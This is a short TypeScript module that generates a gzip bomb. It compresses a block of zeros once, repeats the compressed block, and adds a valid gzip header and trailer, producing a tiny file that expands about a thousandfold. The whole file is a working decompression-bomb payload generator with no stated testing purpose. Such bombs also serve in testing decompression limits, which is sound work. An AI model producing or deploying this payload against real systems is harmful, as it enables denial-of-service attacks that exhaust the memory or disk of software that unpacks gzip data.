// Builds a gzip bomb: one block of zeros, compressed once and repeated.
import { constants, crc32, deflateRawSync } from 'node:zlib'

const blockBytes = 1024 * 1024

/** A valid gzip file of `megabytes` MB of zeros; its size is about a thousandth of that. */
export function gzipBomb(megabytes: number): Buffer {
  const zeros = Buffer.alloc(blockBytes)
  // A full flush ends at a byte boundary and resets the window, so that copies of the block can follow one another.
  const block = deflateRawSync(zeros, { level: 9, finishFlush: constants.Z_FULL_FLUSH })
  let checksum = 0
  for (let done = 0; done < megabytes; done++) checksum = crc32(zeros, checksum)
  const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3])
  const lastBlock = Buffer.from([3, 0])
  const trailer = Buffer.alloc(8)
  trailer.writeUInt32LE(checksum, 0)
  trailer.writeUInt32LE((megabytes * blockBytes) % 2 ** 32, 4)
  return Buffer.concat([header, ...Array.from({ length: megabytes }, () => block), lastBlock, trailer])
}
